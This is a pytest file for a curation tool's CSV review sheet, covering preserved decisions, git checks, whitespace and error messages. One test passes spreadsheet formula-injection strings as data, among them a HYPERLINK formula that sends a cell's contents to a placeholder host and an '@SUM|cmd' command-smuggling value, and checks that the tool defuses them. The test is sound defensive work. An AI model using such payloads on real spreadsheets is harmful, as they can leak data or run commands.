"""The review file: written anew without losing what a person decided, and every mistake in it named by its line."""

from __future__ import annotations

import subprocess
from functools import partial
from pathlib import Path

import pytest

from gamut.evaluation.curating import review as reviewing
from gamut.project.errors import UserError
from stages.prism.curation import CURATION
from tests.prism.small_dataset import EDITION
from tests.prism.small_proposal import CAT, DOG, LOST, OWL, REVIEW, fill_in, proposed, sheet, write_proposal

review, read_review = partial(reviewing.write_review, CURATION), partial(reviewing.read_review, CURATION)
PROPOSED, DECIDED = reviewing.proposed_columns(CURATION), reviewing.decided_columns(CURATION)
ACCEPT, REJECT = {"decision": "accept"}, {"decision": "reject", "remark": "which cat?"}
REWRITE = {"decision": "rewrite", "new_prompt": "a cubist hound"}


def test_all_that_can_be_frozen_is_listed(project: Path) -> None:
    write_proposal(CAT, DOG, OWL, LOST)
    assert list(review(EDITION)) == [f"{REVIEW}: 3 proposed, 3 to be decided", "not among them: 1 near_duplicate"]
    rows = sheet()
    assert [row["id"] for row in rows] == [CAT["id"], DOG["id"], OWL["id"]]
    assert rows[0] == {name: CAT.get(name) or "" for name in PROPOSED} | dict.fromkeys(DECIDED, "")
    assert rows[1]["elements"] == "style: Cubism; subject: dog"
    assert REVIEW.read_bytes().startswith(b"\xef\xbb\xbfid,track,origin,"), "spreadsheets take it for UTF-8"


def test_decisions_stay_with_their_texts_whatever_their_ids(project: Path) -> None:
    write_proposal(CAT, DOG, OWL)
    list(review(EDITION))
    fill_in({CAT["id"]: REJECT, DOG["id"]: REWRITE, OWL["id"]: ACCEPT})
    moved = proposed("style", 5, CAT["prompt"])  # another rank
    write_proposal(moved, DOG, OWL)
    assert list(review(EDITION)) == [f"{REVIEW}: 3 proposed, 1 reject, 1 rewrite, 1 accept"]
    first, second, _ = sheet()
    assert (first["id"], first["decision"], first["remark"]) == (moved["id"], "reject", "which cat?")
    assert second["new_prompt"] == "a cubist hound"
    before = REVIEW.read_bytes()
    list(review(EDITION))
    assert REVIEW.read_bytes() == before


def test_decisions_about_texts_that_changed_are_lost_only_when_git_has_them(project: Path) -> None:
    write_proposal(CAT, DOG)
    list(review(EDITION))
    fill_in({CAT["id"]: REJECT, DOG["id"]: ACCEPT})
    write_proposal(CAT | {"prompt_zh": "立体派的猫"}, DOG)
    before = REVIEW.read_bytes()
    with pytest.raises(UserError, match=r"v1\.csv: 1 of the rows that you filled in are about .*: commit it first"):
        list(review(EDITION))
    assert REVIEW.read_bytes() == before
    identity = ["-c", "user.name=a", "-c", "user.email=a@b.example"]
    for command in (["init", "-q"], ["add", str(REVIEW)], [*identity, "commit", "-qm", "review"]):
        subprocess.run(["git", *command], check=True)
    assert list(review(EDITION)) == [
        f"{REVIEW}: 2 proposed, 1 to be decided, 1 accept",
        "gone, with texts that are no longer proposed: 1 filled-in row",
    ]


@pytest.mark.parametrize("entered", [{"remark": "which cat?"}, {"reviewer": "ann"}])
def test_a_remark_is_not_lost_without_a_word(project: Path, entered: dict[str, str]) -> None:
    write_proposal(CAT, DOG)
    list(review(EDITION))
    with_column({CAT["id"]: entered})
    write_proposal(DOG)
    before = REVIEW.read_bytes()
    with pytest.raises(UserError, match=r"v1\.csv: 1 of the rows that you filled in"):
        list(review(EDITION))
    assert REVIEW.read_bytes() == before


def test_columns_of_ones_own_stay(project: Path) -> None:
    write_proposal(CAT, DOG)
    list(review(EDITION))
    with_column({CAT["id"]: {"reviewer": "ann"}})
    write_proposal(CAT, DOG, OWL)
    list(review(EDITION))
    assert [row["reviewer"] for row in sheet()] == ["ann", "", ""]
    assert list(sheet()[0]) == [*PROPOSED, *DECIDED, "reviewer"]


def with_column(entered: dict[str, dict[str, str]]) -> None:
    fill_in({row["id"]: {"reviewer": ""} | entered.get(row["id"], {}) for row in sheet()})


def test_what_a_spreadsheet_does_to_white_space_changes_no_text(project: Path) -> None:
    write_proposal(proposed("style", 0, "a cubist cat  and\na dog"))
    list(review(EDITION))
    fill_in({"style-00000000": {"prompt": " a cubist cat and a dog ", "decision": "accept"}})
    assert list(review(EDITION)) == [f"{REVIEW}: 1 proposed, 1 accept"]


def test_no_spreadsheet_computes_what_a_model_proposes_and_texts_come_back_as_they_were(project: Path) -> None:
    texts = ('=HYPERLINK("http://x"&A1)', "@SUM(1)|cmd", "'-7 cats", "'quoted' cats")
    write_proposal(*(proposed("style", n, text) for n, text in enumerate(texts)))
    list(review(EDITION))
    assert [row["prompt"] for row in sheet()] == [f"'{text}" for text in texts[:3]] + [texts[3]]
    fill_in({row["id"]: REWRITE | {"new_prompt": "-1 cat", "remark": "+"} for row in sheet()})
    for _ in range(2):  # what a person entered is guarded by the first
        assert list(review(EDITION)) == [f"{REVIEW}: 4 proposed, 4 rewrite"]
    assert {row["new_prompt"] for row in sheet()} == {"'-1 cat"}
    assert [(row["prompt"], row["new_prompt"], row["remark"]) for _, row in read_review(REVIEW)] == [
        (text, "-1 cat", "+") for text in texts
    ]


@pytest.mark.parametrize(
    ("entered", "words"),
    [
        ({"decision": "acept"}, "there is no decision 'acept'; did you mean 'accept'?"),
        ({"decision": "rewrite"}, "decision 'rewrite': wanted is new_prompt or new_prompt_zh"),
        ({"decision": "accept", "new_prompt": "x"}, "decision 'accept': with a new_prompt it has to be 'rewrite'"),
        ({"new_prompt_zh": "x"}, "decision '': with a new_prompt_zh it has to be 'rewrite'"),
        ({"id": DOG["id"]}, f"'{DOG['id']}' stands in line 2 too"),
    ],
)
def test_a_mistake_is_named_by_its_line(project: Path, entered: dict[str, str], words: str) -> None:
    write_proposal(DOG, OWL)
    list(review(EDITION))
    fill_in({OWL["id"]: entered})
    with pytest.raises(UserError) as error:
        read_review(REVIEW)
    assert str(error.value) == f"{REVIEW}, line 3: {words}"


def test_semicolons_are_named(project: Path) -> None:
    REVIEW.parent.mkdir(parents=True)
    REVIEW.write_text(";".join([*PROPOSED, *DECIDED]) + "\n")
    with pytest.raises(UserError, match="line 1: semicolons separate its cells"):
        read_review(REVIEW)
